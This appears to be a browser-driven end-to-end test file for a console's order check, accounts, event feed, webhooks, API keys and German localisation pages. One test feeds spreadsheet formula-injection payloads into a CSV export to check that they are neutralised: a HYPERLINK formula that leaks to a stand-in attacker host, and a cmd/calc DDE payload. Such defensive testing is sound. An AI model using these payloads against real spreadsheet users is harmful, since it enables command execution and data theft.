// The console's integration desk (part 2), driven in headless Chromium as a person would: the order
// check, the accounts directory, the live change feed, webhooks, keys; each page's main path and
// main refusal, an ACCOUNT key that sees no OPERATOR page, a path made with the keyboard alone, and
// axe-core on every page (part 1's too) in the light and the dark color scheme.
// Needs Debian's chromium at /usr/bin/chromium (driven by playwright-core, which never downloads one).
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { readdirSync, readFileSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { after, before, describe, it } from "node:test";
import { checkPage as checkSchemes, chromiumPresent, screenshot, startConsole } from "./support/browser.mjs";
import { servedSql } from "./support/served-sql.mjs";

const TIMEOUT = { timeout: 120_000 };

/** A language's catalog, its area files merged (console/messages/<language>/*.json). */
const catalog = (language) => {
  const dir = new URL(`../../console/messages/${language}/`, import.meta.url);
  return Object.assign({}, ...readdirSync(dir).map((file) => JSON.parse(readFileSync(new URL(file, dir), "utf8"))));
};

/**
 * The English a page in German must not show: each English message without values that German says
 * otherwise (a word both languages write alike, "Status", is no sign of English).
 */
function englishLeftOn(english, german) {
  const words = new Set(Object.entries(english).flatMap(([key, text]) => (!text.includes("{") && german[key] !== text ? [text] : [])));
  return async (page) => {
    const shown = await page.evaluate(() => {
      const texts = [];
      const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
      while (walker.nextNode()) texts.push(walker.currentNode.textContent.trim());
      for (const element of document.querySelectorAll("[aria-label], [title], [placeholder], [alt]"))
        for (const name of ["aria-label", "title", "placeholder", "alt"]) texts.push(element.getAttribute(name) ?? "");
      return { texts: texts.filter(Boolean), body: document.body.innerText };
    });
    // A text or a name that is an English message whole, or an English sentence anywhere in the page.
    return [...words].filter((text) => shown.texts.includes(text) || (text.length > 24 && shown.body.includes(text)));
  };
}

if (chromiumPresent("console desk test")) {
  let desk, page, api, baseUrl, receiver, receiverUrl, operationId;
  const received = [];
  const code = `DESK-${Date.now()}`;

  const status = (text) => page.getByRole("status").filter({ hasText: text });
  const alert = (text) => page.getByRole("alert").filter({ hasText: text });
  const go = async (label) => {
    await page.getByRole("navigation", { name: "Sections" }).getByRole("link", { name: label, exact: true }).click();
    await page.getByRole("heading", { level: 1, name: label }).waitFor();
  };
  const checkPage = (label, target = page) => checkSchemes(target, label);

  before(
    async () => {
      // A webhook receiver that is down: every delivery is answered 503, so it stays pending with its error.
      receiver = createServer((request, response) => {
        request.resume();
        received.push(request.url);
        response.writeHead(503).end("down for maintenance");
      });
      await new Promise((resolve) => receiver.listen(0, "127.0.0.1", resolve));
      receiverUrl = `http://127.0.0.1:${receiver.address().port}/hooks`;
      desk = await startConsole({ tenant: "desk", vars: { WEBHOOKS_ALLOW_LOCAL: "on" } });
      ({ api, baseUrl } = desk);
      page = await desk.browser.newPage();

      const created = await api("POST", "/v1/operations", {
        code,
        name: { en: "Desk spring", de: "Schalterfrühling" },
        type: "PUBLIC",
        startDate: "2098-01-01T00:00:00Z",
        endDate: "2098-12-31T00:00:00Z",
      });
      assert.equal(created.status, 201, JSON.stringify(created.body));
      operationId = created.body.id;
      const lines = [
        { variantExternalId: "SKU-A", minQuantity: 2, maxQuantity: 10 },
        { variantExternalId: "SKU-B", minQuantity: 0, maxQuantity: 5 },
        { variantExternalId: "SKU-C", minQuantity: 0, maxQuantity: 48, quantityIncrement: 6 },
        { variantExternalId: "SKU-REQ", minQuantity: 1, maxQuantity: 3 },
      ];
      assert.equal((await api("PUT", `/v1/operations/${operationId}/lines`, lines)).status, 200);
      const accounts = [
        { accountId: "ACC-DESK-1", name: "Desk Traders", users: [{ userId: "u_console", email: "console@desk.example" }] },
        { accountId: "ACC-DESK-2", name: "Harbour Shop", users: [] },
      ];
      assert.equal((await api("PUT", "/v1/accounts", accounts)).status, 200);
    },
    { timeout: 240_000 },
  );

  after(async () => {
    await desk?.close();
    receiver?.close();
  });

  describe("the console's integration desk", () => {
    it("part 1's pages pass axe-core in light and dark: sign-in, the Operations list, an Operation with its grid", TIMEOUT, async () => {
      await page.goto(`${baseUrl}/console`);
      await page.getByLabel("API key").waitFor();
      await checkPage("signin");
      await desk.signIn(page, desk.operatorKey, "OPERATOR");
      await page.getByRole("link", { name: code, exact: true }).waitFor();
      await checkPage("operations");
      await page.getByRole("link", { name: code, exact: true }).click();
      await page.getByRole("heading", { name: code }).waitFor();
      await page.waitForFunction(() => document.querySelector('[role="grid"]')?.getAttribute("aria-rowcount") === "5");
      await checkPage("operation");
      // Delete asks in a modal dialog (no more window.confirm), which Escape dismisses.
      await page.getByRole("button", { name: "Delete", exact: true }).click();
      const confirm = page.getByRole("dialog", { name: `Delete ${code}?` });
      await confirm.waitFor();
      await page.keyboard.press("Escape");
      await confirm.waitFor({ state: "detached" });
      assert.equal((await api("GET", `/v1/operations/${operationId}`)).status, 200);
    });

    it("order check: a pasted order's comparison as a report, filtered and exported as CSV", TIMEOUT, async () => {
      await go("Order check");
      await page.getByRole("combobox", { name: /^Operation/ }).selectOption(operationId);
      // Tab-separated, as a spreadsheet copies it, with a header row.
      const order = ["variantExternalId\tquantity", "SKU-A\t1", "SKU-B\t9", "SKU-C\t7", "SKU-X\t4"].join("\n");
      await page.getByLabel("Order lines").fill(order);
      await page.getByRole("button", { name: "Compare" }).click();
      const report = page.getByRole("region", { name: "5 discrepancies" });
      await report.waitFor();
      const stats = Object.fromEntries(
        await report
          .locator(".stat")
          .evaluateAll((stats) => stats.map((stat) => [stat.querySelector("dt").textContent, Number(stat.querySelector("dd").textContent)])),
      );
      assert.deepEqual(stats, {
        "Lines checked": 4,
        "In bounds": 1,
        "Below minimum": 1,
        "Above maximum": 1,
        "Not in the Operation": 1,
        "Required, missing": 1,
        "Not a pack multiple": 1,
        "More than is left": 0,
      });
      const table = page.getByRole("table", { name: "Discrepancies" });
      assert.equal(await table.locator("tbody tr").count(), 5);
      await page.getByLabel("Discrepancy").selectOption("above_max");
      assert.deepEqual(await table.locator("tbody tr td:first-child").allInnerTexts(), ["SKU-B"]);
      // The discrepancy in words, as the counts name it (the export keeps the API's code).
      assert.deepEqual(await table.locator("tbody tr td:nth-child(2)").allInnerTexts(), ["Above maximum"]);
      assert.equal(await page.getByLabel("Discrepancy").locator("option:checked").innerText(), "Above maximum");
      await checkPage("order-check");
      const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export CSV (1)" }).click()]);
      assert.equal(
        await readFile(await download.path(), "utf8"),
        "variantExternalId,code,quantity,minQuantity,maxQuantity,quantityIncrement,poolRemaining,accountRemaining,nearestValid\nSKU-B,above_max,9,0,5,,,,\n",
      );
    });

    it("order check: an export neutralizes the cells a spreadsheet would run as formulas, as the API's exports do", TIMEOUT, async () => {
      // Variants no Operation holds come back as they were sent, so the report's export writes them.
      const formulas = ['=HYPERLINK("http://evil.example/?leak","Open me")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"];
      await page.getByLabel("Order lines").fill(["variantExternalId\tquantity", ...formulas.map((variant) => `${variant}\t1`)].join("\n"));
      await page.getByRole("button", { name: "Compare" }).click();
      await page.getByRole("region", { name: /discrepancies/ }).waitFor();
      await page.getByLabel("Discrepancy").selectOption("not_in_operation");
      const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export CSV (4)" }).click()]);
      const rows = (await readFile(await download.path(), "utf8")).trimEnd().split("\n").slice(1).sort();
      assert.deepEqual(rows, [
        `"'=HYPERLINK(""http://evil.example/?leak"",""Open me"")",not_in_operation,1,,,,,,`,
        "'+1+cmd|' /C calc'!A0,not_in_operation,1,,,,,,",
        "'-2+3,not_in_operation,1,,,,,,",
        "'@SUM(1+1),not_in_operation,1,,,,,,",
      ]);
    });

    it("order check: a bad order is named row by row, and the API's refusal of a repeated variant is shown", TIMEOUT, async () => {
      await page.getByLabel("Order lines").fill("SKU-A,3\nSKU-B,many\nSKU-C,6");
      await page.getByRole("button", { name: "Compare" }).click();
      await alert('Row 2: quantity "many" is not a whole number').waitFor();
      assert.equal(await page.getByRole("region", { name: /discrepancies|fits/ }).count(), 0, "nothing is compared");
      await page.getByLabel("Order lines").fill("SKU-A,3\nSKU-A,4");
      await page.getByRole("button", { name: "Compare" }).click();
      const refusal = alert("validation_failed");
      await refusal.waitFor();
      assert.match(await refusal.innerText(), /SKU-A/);
      await screenshot(page, "order-check-refused");
    });

    it("accounts: lists and searches the directory, imports a CSV after its dry run, and names a bad row", TIMEOUT, async () => {
      await go("Accounts");
      const table = page.getByRole("table", { name: "Accounts" });
      await table.getByRole("cell", { name: "ACC-DESK-1", exact: true }).waitFor();
      await page.getByLabel("Name contains").fill("harbour");
      await page.waitForFunction(
        () =>
          document.querySelectorAll('table[aria-label="Accounts"] tbody tr').length === 1 &&
          document.querySelector('table[aria-label="Accounts"] tbody td')?.textContent === "ACC-DESK-2",
      );
      await page.getByLabel("Name contains").fill("");

      const csv = [
        "accountId,name,userId,email",
        "ACC-DESK-3,Lakeside Goods,u_lake1,one@lake.example",
        "ACC-DESK-3,Lakeside Goods,u_lake2,not-an-email",
        "ACC-DESK-4,Quiet Corner,,",
      ];
      const file = (name, rows) => ({ name, mimeType: "text/csv", buffer: Buffer.from(rows.join("\n")) });
      await page.getByLabel("Import accounts CSV").setInputFiles(file("bad.csv", csv));
      const refused = alert("Row 3");
      await refused.waitFor();
      assert.match(await refused.innerText(), /Row 3: email: must be an email address/);
      await screenshot(page, "accounts-refused");

      csv[2] = "ACC-DESK-3,Lakeside Goods,u_lake2,two@lake.example";
      await page.getByLabel("Import accounts CSV").setInputFiles(file("good.csv", csv));
      await status("Dry run of good.csv: 2 created, 0 updated.").waitFor();
      assert.equal(await table.getByRole("cell", { name: "ACC-DESK-3", exact: true }).count(), 0, "a dry run changes nothing");
      await page.getByRole("button", { name: "Apply" }).click();
      await status("Imported good.csv: 2 created, 0 updated.").waitFor();
      await table.getByRole("cell", { name: "ACC-DESK-3", exact: true }).waitFor();
      assert.match(await table.getByRole("row", { name: /ACC-DESK-3/ }).innerText(), /u_lake1 <one@lake\.example>, u_lake2 <two@lake\.example>/);
      await checkPage("accounts");
    });

    it("events: newest first, filtered by type and Operation, and a new event appears without a reload", TIMEOUT, async () => {
      const feedReads = [];
      const recordFeedRead = (request) => request.url().includes("/v1/events") && feedReads.push(new URL(request.url()).searchParams);
      page.on("request", recordFeedRead);
      await go("Events");
      const table = page.getByRole("table", { name: "Events" });
      await table.getByRole("cell", { name: "directory.upserted" }).first().waitFor();
      const types = await table.locator("tbody tr td:nth-child(2)").allInnerTexts();
      assert.equal(types[0], "directory.upserted", "the latest change comes first");
      assert.equal(types.at(-1), "key.created", "the oldest (the keys this test was given) comes last");
      // One read of the newest page, not the whole history oldest first.
      page.off("request", recordFeedRead);
      assert.equal(feedReads.length, 1, feedReads.map(String).join(" | "));
      assert.equal(feedReads[0].get("sort"), "-id");
      assert.equal(feedReads[0].get("limit"), "200");
      await page.getByLabel("Operation code").fill(code);
      await page.waitForFunction(
        () =>
          [...document.querySelectorAll('table[aria-label="Events"] tbody tr td:nth-child(2)')].map((td) => td.textContent).join() ===
          "lines.upserted,operation.created",
      );
      await page.getByLabel("Operation code").fill("");
      await page.getByLabel("Type").selectOption("operation.created");
      await page.waitForFunction(() => {
        const types = [...document.querySelectorAll('table[aria-label="Events"] tbody tr td:nth-child(2)')].map((td) => td.textContent);
        return types.length > 0 && types.every((type) => type === "operation.created");
      });
      const before = await table.locator("tbody tr").count();

      // Someone else creates an Operation: the feed, polling with `after`, shows it on its own.
      const reloads = [];
      page.on("framenavigated", (frame) => frame === page.mainFrame() && reloads.push(frame.url()));
      const other = await api("POST", "/v1/operations", {
        code: `${code}-LIVE`,
        name: { en: "Live one" },
        type: "PUBLIC",
        startDate: "2098-01-01T00:00:00Z",
        endDate: "2098-12-31T00:00:00Z",
      });
      assert.equal(other.status, 201);
      await table
        .locator("tbody tr")
        .first()
        .getByRole("link", { name: `${code}-LIVE` })
        .waitFor({ timeout: 15_000 });
      assert.equal(await table.locator("tbody tr").count(), before + 1);
      assert.deepEqual(reloads, [], "no reload");
      await status(`${before + 1} events shown, newest first.`).waitFor();
      await checkPage("events");
      await page.getByLabel("Type").selectOption("");
    });

    it("events: a long history shows its newest 200, and Show older pages back to the first event", TIMEOUT, async () => {
      // One default set through the API, then 209 more like it written straight into the served shard (in
      // commit order, handed on): the page's paging is under test, not 210 writes' worth of requests.
      assert.equal((await api("PUT", "/v1/buying-policies/quotas/default", { minimum: 1 })).status, 200);
      const [{ shard }] = await servedSql(desk.server, "select shard from tenant_directory where tenant_id = 'desk'");
      await servedSql(
        desk.server,
        `with recursive n(i) as (select 2 union all select i + 1 from n where i < 210)
         insert into events (id, tenant_id, type, operation_id, rule_id, actor, at, data, handed_on_at)
         select e.id || printf('-%03d', n.i), e.tenant_id, e.type, e.operation_id, e.rule_id, e.actor, e.at, json_set(e.data, '$.minimum', n.i), e.at
         from n, (select * from events where tenant_id = 'desk' and type = 'quota_default.updated') e order by n.i`,
        shard,
      );
      await go("Operations");
      await go("Events");
      const table = page.getByRole("table", { name: "Events" });
      await status("200 events shown, newest first.").waitFor();
      const first = await table.locator("tbody tr td:nth-child(2)").allInnerTexts();
      assert.equal(first.length, 200);
      assert.ok(
        first.every((type) => type === "quota_default.updated"),
        "the newest 200 are the latest defaults",
      );
      assert.match(await table.locator("tbody tr").first().innerText(), /minimum: 210/);
      const older = page.getByRole("button", { name: "Show older" });
      await older.focus();
      await page.keyboard.press("Enter");
      await page.waitForFunction(() => document.querySelectorAll('table[aria-label="Events"] tbody tr').length > 200);
      const all = await table.locator("tbody tr td:nth-child(2)").allInnerTexts();
      assert.equal(all.at(-1), "key.created", "paging back reaches the first event");
      let total = 0;
      for (let nextToken = ""; ; ) {
        const { status: code, body } = await api("GET", `/v1/events?limit=500${nextToken && `&nextToken=${encodeURIComponent(nextToken)}`}`);
        assert.equal(code, 200);
        total += body.items.length;
        if (!body.nextToken) break;
        nextToken = body.nextToken;
      }
      assert.equal(all.length, total, "every event once, none twice");
      assert.equal(await older.count(), 0, "no older page left");
    });

    it("webhooks: a refused URL with the API's detail; subscribe (secret shown once), edit, see deliveries, delete after confirming", TIMEOUT, async () => {
      await go("Webhooks");
      await page.getByRole("button", { name: "New subscription" }).click();
      const form = page.getByRole("form", { name: "New subscription" });
      await form.getByLabel("URL").fill("https://10.1.2.3/hooks");
      await form.getByRole("button", { name: "Subscribe" }).click();
      const refused = alert("validation_failed");
      await refused.waitFor();
      assert.match(await refused.innerText(), /url/i);
      await screenshot(page, "webhooks-refused");

      await form.getByLabel("URL").fill(receiverUrl);
      await form.getByLabel("Event types").fill("operation.*");
      await form.getByLabel("Description").fill("ERP sync");
      await form.getByRole("button", { name: "Subscribe" }).click();
      const dialog = page.getByRole("dialog", { name: "Signing secret" });
      await dialog.waitFor();
      const secret = await dialog.locator("code").innerText();
      assert.match(secret, /^whsec_/);
      await checkPage("webhooks-secret");
      await dialog.getByRole("button", { name: "Done" }).click();
      await dialog.waitFor({ state: "detached" });
      assert.equal(await page.getByText(secret).count(), 0, "the secret is shown once");

      const table = page.getByRole("table", { name: "Subscriptions" });
      await table.getByRole("link", { name: receiverUrl }).waitFor();
      await page.getByRole("button", { name: `Edit ${receiverUrl}` }).click();
      const edit = page.getByRole("form", { name: "Edit subscription" });
      await edit.getByLabel("Description").fill("ERP sync, every Operation change");
      await edit.getByRole("button", { name: "Save changes" }).click();
      await table.getByRole("cell", { name: "ERP sync, every Operation change" }).waitFor();

      // An event the subscription matches: its delivery to the receiver (answering 503) shows pending.
      assert.equal((await api("PATCH", `/v1/operations/${operationId}`, { name: { fr: "Printemps" } })).status, 200);
      await table.getByRole("link", { name: receiverUrl }).click();
      const deliveries = page.getByRole("table", { name: "Deliveries" });
      await deliveries.getByRole("cell", { name: "answered 503" }).first().waitFor({ timeout: 60_000 });
      const row = await deliveries.locator("tbody tr").first().innerText();
      assert.match(row, /operation\.updated\s+pending\s+\d+\s+503\s+answered 503/);
      assert.ok(received.length >= 1);
      await checkPage("webhooks");

      await page.getByRole("button", { name: `Delete ${receiverUrl}` }).click();
      const confirm = page.getByRole("dialog", { name: "Delete this subscription?" });
      await confirm.getByRole("button", { name: "Cancel" }).click();
      await confirm.waitFor({ state: "detached" });
      assert.equal((await api("GET", "/v1/webhooks")).body.items.length, 1, "Cancel deletes nothing");
      await page.getByRole("button", { name: `Delete ${receiverUrl}` }).click();
      await confirm.getByRole("button", { name: "Delete" }).click();
      await page.getByText("No subscription yet.").waitFor();
      assert.equal((await api("GET", "/v1/webhooks")).body.items.length, 0);
    });

    it("keys, from the keyboard alone: issue one (shown once, copied), refuse one without its user, revoke after confirming", TIMEOUT, async () => {
      await desk.browser.grantPermissions(["clipboard-read", "clipboard-write"], { origin: baseUrl });
      await go("Keys");
      const table = page.getByRole("table", { name: "Keys" });
      await table.getByRole("cell", { name: "u_console", exact: true }).waitFor();
      const focused = () =>
        page.evaluate(() => ({
          text: document.activeElement?.textContent?.trim() ?? "",
          label: document.activeElement?.getAttribute("aria-label") ?? document.activeElement?.closest("label")?.firstChild?.textContent?.trim() ?? "",
          ring: getComputedStyle(document.activeElement).boxShadow,
        }));
      /** Presses Tab until the focus is on what `matches` accepts; every stop shows a focus ring. */
      const tabTo = async (matches, key = "Tab") => {
        for (let i = 0; i < 60; i++) {
          await page.keyboard.press(key);
          const now = await focused();
          if (matches(now)) return assert.notEqual(now.ring, "none", `visible focus on ${now.text || now.label}`);
        }
        assert.fail("never reached by Tab");
      };
      await page.locator("h1").click(); // the focus starts from the page, not from a control

      await tabTo((f) => f.text === "Issue a key");
      await page.keyboard.press("Enter");
      await tabTo((f) => f.label === "Role");
      await tabTo((f) => f.label === "Name");
      await page.keyboard.type("Buyer key");
      await page.keyboard.press("Enter");
      const refused = alert("validation_failed");
      await refused.waitFor();
      assert.match(await refused.innerText(), /userId/);
      await screenshot(page, "keys-refused");

      await tabTo((f) => f.label === "User id", "Shift+Tab");
      await page.keyboard.type("u_desk_buyer");
      await page.keyboard.press("Enter");
      const dialog = page.getByRole("dialog", { name: "New API key" });
      await dialog.waitFor();
      assert.ok(await dialog.evaluate((element) => element.contains(document.activeElement)), "the focus is in the dialog");
      const issued = await dialog.locator("code").innerText();
      assert.match(issued, /^sk3_/);
      await page.keyboard.press("Enter"); // the first button: Copy
      await dialog.getByText("Copied.").waitFor();
      assert.equal(await page.evaluate(() => navigator.clipboard.readText()), issued);
      assert.equal((await api("GET", "/v1/operations?limit=1", undefined, { key: issued, role: "ACCOUNT" })).status, 200, "the new key works");
      await checkPage("keys-issued");
      await page.keyboard.press("Escape");
      await dialog.waitFor({ state: "detached" });
      await table.getByRole("cell", { name: "u_desk_buyer" }).waitFor();
      await checkPage("keys");

      await page.locator("h1").click();
      await tabTo((f) => f.label === "Revoke Buyer key");
      await page.keyboard.press("Enter");
      const confirm = page.getByRole("dialog", { name: "Revoke this key?" });
      await confirm.waitFor();
      assert.equal((await focused()).text, "Cancel", "the safe answer has the focus");
      await page.keyboard.press("Escape");
      await confirm.waitFor({ state: "detached" });
      assert.equal((await focused()).label, "Revoke Buyer key", "the focus returns to the button");
      await page.keyboard.press("Enter");
      await confirm.waitFor();
      await tabTo((f) => f.text === "Revoke");
      await page.keyboard.press("Enter");
      await confirm.waitFor({ state: "detached" });
      await table
        .getByRole("row", { name: /Buyer key/ })
        .getByText("revoked")
        .waitFor();
      assert.equal((await api("GET", "/v1/operations?limit=1", undefined, { key: issued, role: "ACCOUNT" })).status, 401, "the revoked key is refused");
    });

    it("in German: every page says nothing in English but names and codes, and the choice survives a reload", { timeout: 300_000 }, async () => {
      const german = catalog("de");
      const englishLeft = englishLeftOn(catalog("en"), german);
      const tab = await desk.browser.newPage();
      try {
        await desk.signIn(tab, desk.operatorKey, "OPERATOR");
        await tab.getByLabel("Language").selectOption("de");
        // Its catalog read (a chunk of its own), the page says it in German.
        await tab.getByRole("button", { name: german["app.signOut"] }).waitFor();
        assert.equal(await tab.evaluate(() => document.documentElement.lang), "de");
        await tab.reload();
        await tab.getByRole("navigation", { name: german["app.sections"] }).waitFor();
        assert.equal(await tab.getByLabel(german["app.language"]).inputValue(), "de", "the language chosen is remembered");
        const pages = [
          ["operations", "/console/operations"],
          ["operation", `/console/operations/${operationId}`],
          ["orders", `/console/operations/${operationId}/orders`],
          ["totals", `/console/operations/${operationId}/totals`],
          ["history", `/console/operations/${operationId}/history`],
          ["rules", "/console/quota-rules"],
          ["rules-grid", "/console/quota-rules?view=grid"],
          ["rule-new", "/console/quota-rules/new"],
          ["simulator", "/console/quota-rules/simulator"],
          ["order-check", "/console/order-check"],
          ["accounts", "/console/accounts"],
          ["events", "/console/events"],
          ["webhooks", "/console/webhooks"],
          ["keys", "/console/keys"],
          ["changes", "/console/changes"],
          ["settings", "/console/settings"],
        ];
        for (const [name, path] of pages) {
          await tab.goto(`${baseUrl}${path}`);
          await tab.locator("main h1, main h2").first().waitFor();
          // Every part read: no "loading" left anywhere on the page.
          await tab.waitForFunction((loading) => !document.body.innerText.includes(loading), german["common.loading"]);
          assert.deepEqual(await englishLeft(tab), [], `${name} in German`);
          await screenshot(tab, `de-${name}`);
        }
        // The Operation by its German name, as the API resolves a name for a language.
        await tab.goto(`${baseUrl}/console/operations`);
        await tab.getByRole("cell", { name: "Schalterfrühling", exact: true }).waitFor();
        // Numbers and dates as German writes them.
        await tab.goto(`${baseUrl}/console/operations/${operationId}`);
        await tab.getByText("01.01.2098").first().waitFor();
        // Variant names in German too: the grid says so, and a name typed there is the line's German text.
        await tab.getByText(german["lines.namesIn"].replace("{language}", "Deutsch")).waitFor();
        // Typed once the lines are in (the first row is SKU-A's, the lines sorted by variant).
        await tab.locator("#cell-0-0", { hasText: "SKU-A" }).waitFor();
        await tab.getByRole("grid").first().focus();
        for (const key of ["Control+Home", "Home", "ArrowRight"]) await tab.keyboard.press(key);
        await tab.keyboard.type("Hemd A");
        await tab.keyboard.press("Enter");
        // Saved from the keyboard alone: back from the grid (Shift+Tab) to Speichern, then Enter.
        for (let i = 0; i < 20 && (await tab.evaluate(() => document.activeElement?.textContent)) !== german["common.save"]; i++) {
          await tab.keyboard.press("Shift+Tab");
        }
        assert.equal(await tab.evaluate(() => document.activeElement?.textContent), german["common.save"], "Speichern is reached with Shift+Tab");
        await screenshot(tab, "de-lines-name-typed");
        await tab.keyboard.press("Enter");
        const nameOfA = async () => (await api("GET", `/v1/operations/${operationId}/lines?variantIds=SKU-A`)).body.items[0].variantName;
        const until = Date.now() + 10_000;
        while (!(await nameOfA()).de && Date.now() < until) await new Promise((resolve) => setTimeout(resolve, 100));
        assert.deepEqual(await nameOfA(), { de: "Hemd A" });
        // A lines CSV imported in German names them in German too, the English names kept.
        assert.equal((await api("PUT", `/v1/operations/${operationId}/lines`, [{ variantExternalId: "SKU-B", variantName: { en: "Shirt B" } }])).status, 200);
        const namesCsv = { name: "names.csv", mimeType: "text/csv", buffer: Buffer.from("variantExternalId,variantName\nSKU-B,Hemd B\n") };
        await tab.getByLabel(german["common.importCsv"]).setInputFiles(namesCsv);
        await tab.getByRole("button", { name: german["common.apply"] }).click();
        const nameOfB = async () => (await api("GET", `/v1/operations/${operationId}/lines?variantIds=SKU-B`)).body.items[0].variantName;
        const imported = Date.now() + 10_000;
        while (!(await nameOfB()).de && Date.now() < imported) await new Promise((resolve) => setTimeout(resolve, 100));
        assert.deepEqual(await nameOfB(), { en: "Shirt B", de: "Hemd B" });
        // Signed out, the sign-in card is in German too.
        await tab.getByRole("button", { name: german["app.signOut"] }).click();
        await tab.getByLabel(german["app.apiKey"]).waitFor();
        assert.deepEqual(await englishLeft(tab), [], "sign-in in German");
        await screenshot(tab, "de-signin");
      } finally {
        // The tests after this one read the console in English (the browser's language).
        await tab.evaluate(() => localStorage.removeItem("campaign-console-language")).catch(() => {});
        await tab.close();
      }
    });

    it("an ACCOUNT key sees no Keys, Events, Webhooks or Quota rules page, and is told so at their address", TIMEOUT, async () => {
      const accountPage = await desk.browser.newPage();
      try {
        await desk.signIn(accountPage, desk.accountKey, "ACCOUNT");
        const nav = accountPage.getByRole("navigation", { name: "Sections" });
        assert.deepEqual(await nav.getByRole("link").allInnerTexts(), ["Operations", "Order check", "Accounts"]);
        await accountPage.goto(`${baseUrl}/console/keys`);
        await accountPage.getByText("This page is for OPERATOR keys").waitFor();
        assert.equal(await accountPage.getByRole("table").count(), 0);
        await nav.getByRole("link", { name: "Accounts", exact: true }).click();
        await accountPage.getByRole("table", { name: "Accounts" }).getByRole("cell", { name: "ACC-DESK-1", exact: true }).waitFor();
        assert.equal(await accountPage.getByLabel("Import accounts CSV").count(), 0, "no import for an ACCOUNT key");
        await checkPage("account-accounts", accountPage);
      } finally {
        await accountPage.close();
      }
    });
  });
}
